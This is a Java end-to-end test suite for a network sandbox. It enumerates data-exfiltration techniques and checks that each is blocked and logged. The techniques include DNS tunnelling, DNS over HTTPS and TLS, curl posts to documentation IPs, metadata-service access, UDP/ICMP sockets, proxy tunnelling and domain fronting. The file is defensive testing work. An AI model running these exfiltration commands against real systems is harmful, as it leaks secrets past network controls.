package dev.capsem.e2e;

import static org.assertj.core.api.Assertions.assertThat;

import dev.capsem.e2e.Installation.Executed;
import dev.capsem.e2e.NetSandbox.Row;
import dev.capsem.testkit.http.HttpOrigin;
import java.util.List;
import java.util.Locale;
import org.junit.jupiter.api.AfterAll;
import org.junit.jupiter.api.BeforeAll;
import org.junit.jupiter.api.Tag;
import org.junit.jupiter.api.Test;
import org.junit.jupiter.api.TestInstance;
import org.junit.jupiter.params.ParameterizedTest;
import org.junit.jupiter.params.provider.EnumSource;

/// Ways to carry a secret out of a sandbox whose profile opens `*.example.test` and nothing else. None works, no
/// upstream hears of it, and the record names what was tried. `docs/threat-model.md` has the same list.
@Tag("e2e")
@TestInstance(TestInstance.Lifecycle.PER_CLASS)
class NetExfiltrationTest {
    /// Carried by every attempt; it must reach nobody.
    private static final String SECRET = "exfil-me-0123456789";

    private World world;
    private HttpOrigin other;
    private NetSandbox sandbox;

    @BeforeAll
    void start() {
        world = new World();
        other = world.origin("other");
        sandbox = NetSandbox.start(Account.available().getLast(), world, "");
    }

    @AfterAll
    void stop() {
        sandbox.close();
        world.close();
    }

    /// Where the record of an attempt is found.
    enum Recorded {
        /// A row of net_events that is not `allowed`.
        CONNECTION,
        /// A row of dns_events that is not `allowed`.
        QUESTION
    }

    /// Commands that end with success only if the attempt did, each with a part of the name that its record must have.
    enum Attempt {
        DNS_TUNNEL(
                "getent ahostsv4 MFRGGZDFMZTWQ2LKNNWG23TPOBYXE43UOV3HO6DZPI.exfil-me.tunnel.test",
                Recorded.QUESTION,
                "tunnel.test"),
        DNS_TUNNEL_BY_TEXT_RECORDS(
                dns("exfil-me.texts.test", 16, "udp", "203.0.113.53"), Recorded.QUESTION, "texts.test"),
        DNS_OVER_TCP(dns("exfil-me.tcp.test", 1, "tcp", "203.0.113.53"), Recorded.QUESTION, "tcp.test"),
        DNS_SECOND_QUESTION(secondQuestion(), Recorded.QUESTION, "second.test"),
        DNS_OVER_HTTPS(
                "curl -sS --max-time 10 -H 'accept: application/dns-json'" + " 'https://dns.google/resolve?name="
                        + SECRET + ".doh.test'",
                Recorded.QUESTION,
                "dns.google"),
        DNS_OVER_HTTPS_BY_ADDRESS(
                "curl -sSkf --max-time 10 'https://1.1.1.1/dns-query?name=" + SECRET + ".doh.test'",
                Recorded.CONNECTION,
                "1.1.1.1"),
        DNS_OVER_TLS(
                "echo " + SECRET
                        + " | python3 $S/raw.py https 203.0.113.53 853 dot.test | { ! grep -q 'x-capsem-decision: block'; }",
                Recorded.CONNECTION,
                "dot.test"),
        DIRECT_ADDRESS(
                "curl -sSkf --max-time 10 -d " + SECRET + " https://203.0.113.9/", Recorded.CONNECTION, "203.0.113.9"),
        DIRECT_ADDRESS_PLAIN(
                "curl -sSf --max-time 10 -d " + SECRET + " http://203.0.113.10:8080/",
                Recorded.CONNECTION,
                "203.0.113.10"),
        ADDRESS_OF_THE_HOST(
                "curl -sSf --max-time 10 -d " + SECRET + " http://10.0.2.2/", Recorded.CONNECTION, "10.0.2.2"),
        METADATA_SERVICE(
                "curl -sSf --max-time 10 http://169.254.169.254/latest/meta-data/",
                Recorded.CONNECTION,
                "169.254.169.254"),
        IPV6(
                "curl -sSkf --max-time 10 -d " + SECRET + " 'https://[2001:db8::9]/'",
                Recorded.CONNECTION,
                "2001:db8:0:0:0:0:0:9"),
        IPV6_UDP(udp("AF_INET6", "2001:db8::10", 443), Recorded.CONNECTION, "2001:db8:0:0:0:0:0:10"),
        UDP(udp("AF_INET", "203.0.113.20", 9), Recorded.CONNECTION, "203.0.113.20"),
        QUIC(udp("AF_INET", "203.0.113.21", 443), Recorded.CONNECTION, "203.0.113.21"),
        UDP_TO_AN_ALLOWED_NAME(udp("AF_INET", "web.example.test", 443), Recorded.CONNECTION, "web.example.test"),
        ICMP(ping("AF_INET", 1, 8, "203.0.113.9"), Recorded.CONNECTION, "203.0.113.9"),
        ICMPV6(ping("AF_INET6", 58, 128, "2001:db8::11"), Recorded.CONNECTION, "2001:db8:0:0:0:0:0:11"),
        CONNECT_TO_ANOTHER_HOST(
                "curl -sSkf --max-time 10 --proxy http://web.example.test:3128 --proxytunnel -d " + SECRET
                        + " https://connect.elsewhere.test/",
                Recorded.CONNECTION,
                "connect.elsewhere.test"),
        CONNECT_TO_ANOTHER_ADDRESS(
                "curl -sSkf --max-time 10 --proxy http://web.example.test:3128 --proxytunnel -d " + SECRET
                        + " https://203.0.113.11/",
                Recorded.CONNECTION,
                "203.0.113.11"),
        HOST_OF_ANOTHER(
                "curl -sSf --http1.1 --max-time 10 -H 'Host: front.elsewhere.test' -d " + SECRET
                        + " https://{web}/echo",
                Recorded.CONNECTION,
                "web.example.test"),
        DOMAIN_FRONTING(
                "curl -sSf --http1.1 --max-time 10 -H 'Host: other.example.test' -d " + SECRET + " https://{web}/echo",
                Recorded.CONNECTION,
                "web.example.test"),
        DOMAIN_FRONTING_H2(
                "curl -sSf --http2 --max-time 10 -H 'Host: other.example.test' -d " + SECRET + " https://{web}/echo",
                Recorded.CONNECTION,
                "web.example.test"),
        NAME_AT_AN_ADDRESS_NOBODY_GAVE(
                "curl -sSkf --max-time 10 --resolve web.example.test:8443:203.0.113.12 -d " + SECRET
                        + " https://web.example.test:8443/echo",
                Recorded.CONNECTION,
                "web.example.test"),
        TLS_WITHOUT_A_NAME(
                "printf 'GET /?" + SECRET + " HTTP/1.1\\r\\nHost: x.test\\r\\n\\r\\n' | python3 $S/raw.py https"
                        + " 203.0.113.13 443 - | grep ' 200'",
                Recorded.CONNECTION,
                "203.0.113.13"),
        WEBSOCKET(
                "curl -sSf --http1.1 --max-time 10 -H 'upgrade: websocket' -H 'connection: upgrade'"
                        + " -H 'sec-websocket-version: 13' -H 'sec-websocket-key: dGVzdC10ZXN0LXRlc3QhIQ=='"
                        + " -k --resolve sockets.elsewhere.test:443:203.0.113.14 https://sockets.elsewhere.test/"
                        + SECRET,
                Recorded.CONNECTION,
                "sockets.elsewhere.test"),
        REDIRECT_INWARDS("curl -sSfL --max-time 10 https://{web}/inward", Recorded.CONNECTION, "169.254.169.254"),
        ANOTHER_PROTOCOL(
                "printf '\\001\\002" + SECRET + "' | python3 $S/raw.py http 203.0.113.15 22 - | grep .",
                Recorded.CONNECTION,
                "203.0.113.15"),
        ANOTHER_PROTOCOL_TO_AN_ALLOWED_NAME(
                "printf '\\001\\002" + SECRET + "' | python3 $S/raw.py http web.example.test 22 - | grep .",
                Recorded.CONNECTION,
                "web.example.test");

        private final String command;
        private final Recorded recorded;
        private final String trace;

        Attempt(String command, Recorded recorded, String trace) {
            this.command = command;
            this.recorded = recorded;
            this.trace = trace;
        }

        private static String udp(String family, String host, int port) {
            return "python3 -c \"import socket; s = socket.socket(socket." + family
                    + ", socket.SOCK_DGRAM); s.settimeout(2);"
                    + " s.connect(('" + host + "', " + port + ")); s.send(b'" + SECRET + "'); s.recv(1)\"";
        }

        /// An echo request; its answer would be an echo reply.
        private static String ping(String family, int protocol, int type, String host) {
            return "python3 -c \"import socket; s = socket.socket(socket." + family + ", socket.SOCK_DGRAM, " + protocol
                    + "); s.settimeout(2); s.sendto(bytes([" + type + ", 0, 0, 0, 0, 0, 0, 0]) + b'" + SECRET + "', ('"
                    + host + "', 0)); s.recv(1)\"";
        }

        /// Succeeds if an answer without an error comes.
        private static String dns(String name, int type, String transport, String server) {
            return "python3 - <<'END'\n"
                    + "import socket, struct, sys\n"
                    + "q = b''.join(bytes([len(l)]) + l for l in b'" + name + "'.split(b'.')) + b'\\0'\n"
                    + "m = struct.pack('>6H', 7, 0x100, 1, 0, 0, 0) + q + struct.pack('>2H', " + type + ", 1)\n"
                    + "kind = socket.SOCK_" + (transport.equals("tcp") ? "STREAM" : "DGRAM") + "\n"
                    + "s = socket.socket(socket.AF_INET, kind); s.settimeout(5); s.connect(('" + server + "', 53))\n"
                    + "s.sendall(" + (transport.equals("tcp") ? "struct.pack('>H', len(m)) + m" : "m") + ")\n"
                    + "r = s.recv(4096)" + (transport.equals("tcp") ? "[2:] or s.recv(4096)" : "") + "\n"
                    + "sys.exit(1 if r[3] & 15 else 0)\n"
                    + "END";
        }

        /// An allowed name first, another behind it.
        private static String secondQuestion() {
            return """
                    python3 - <<'END'
                    import socket, struct, sys
                    def question(name):
                        return b''.join(bytes([len(l)]) + l for l in name.split(b'.')) + b'\\0' + struct.pack('>2H', 1, 1)
                    m = struct.pack('>6H', 9, 0x100, 2, 0, 0, 0) + question(b'web.example.test') + question(b'exfil-me.second.test')
                    s = socket.socket(socket.AF_INET, socket.SOCK_DGRAM); s.settimeout(5); s.connect(('203.0.113.53', 53))
                    s.send(m)
                    sys.exit(1 if s.recv(4096)[3] & 15 else 0)
                    END""";
        }
    }

    @ParameterizedTest
    @EnumSource(Attempt.class)
    void doesNotWorkAndIsRecorded(Attempt attempt) {
        String table = attempt.recorded == Recorded.QUESTION ? "dns_events" : "net_events";
        String column = attempt.recorded == Recorded.QUESTION ? "qname" : "domain";
        String sql = "SELECT * FROM " + table + " WHERE decision <> 'allowed' AND " + column + " LIKE ? ORDER BY id";
        String pattern = "%" + attempt.trace.toLowerCase(Locale.ROOT) + "%";
        int before = sandbox.rows(sql, pattern).size();

        Executed run = sandbox.exec(attempt.command);

        assertThat(run.exitCode()).as("%s%s", run.stdout(), run.stderr()).isNotZero();
        Row row = sandbox.awaitRows(before + 1, sql, pattern).getLast();
        assertThat(row.text("policy_action")).isEqualTo("block");
        assertThat(world.web().received())
                .noneMatch(request -> request.head().contains(SECRET)
                        || new String(request.bodyStart(), java.nio.charset.StandardCharsets.UTF_8).contains(SECRET));
        assertThat(other.connections()).isZero();
        assertThat(world.upstreams().dns().asked())
                .noneMatch(question ->
                        question.name().contains("exfil-me") || question.name().endsWith(".elsewhere.test"));
    }

    /// The guest hears at once that its datagrams go nowhere; the record counts them without repeating itself.
    @Test
    void refusedDatagramsAreCountedByDestination() {
        Executed run = sandbox.exec("""
                python3 - <<'END'
                import socket, time
                s = socket.socket(socket.AF_INET, socket.SOCK_DGRAM)
                errors = 0
                for i in range(500):
                    try: s.sendto(b'exfil-me', ('203.0.113.30', 443))
                    except PermissionError: errors += 1
                print(errors)
                time.sleep(0.5)
                END""");

        assertThat(run.stdout()).isEqualTo("500\n");
        Row row = sandbox.awaitRow("SELECT * FROM net_events WHERE domain = '203.0.113.30'");
        assertThat(row.text("conn_type")).isEqualTo("udp");
        assertThat(row.number("port")).isEqualTo(443);
        assertThat(row.text("decision")).isEqualTo("denied");
        assertThat(row.text("process_name")).isEqualTo("python3");
        assertThat(row.text("policy_reason")).startsWith("udp does not leave the sandbox: 1 packet refused inside");
        assertThat(row.number("bytes_sent")).isZero();
        assertThat(sandbox.everythingBut("exec_events", "audit_events")).doesNotContain("exfil-me'");
    }

    /// A name under an allowed zone can carry data past any list of names: it passes, and is reported.
    @Test
    void dataInAllowedNamesIsReported() {
        sandbox.exec("getent ahostsv4 mfrggzdfmztwq2lknnwg23tpobyxe43uov3ho6dzpi.example.test");

        List<Row> findings = sandbox.awaitRows(
                1,
                "SELECT f.* FROM detection_findings f JOIN security_events e ON e.event_id = f.event_id"
                        + " WHERE e.event_type = 'dns.request' AND f.rule_id = 'dns_noise'");

        assertThat(findings)
                .allSatisfy(finding -> assertThat(finding.text("severity")).isEqualTo("medium"));
    }
}
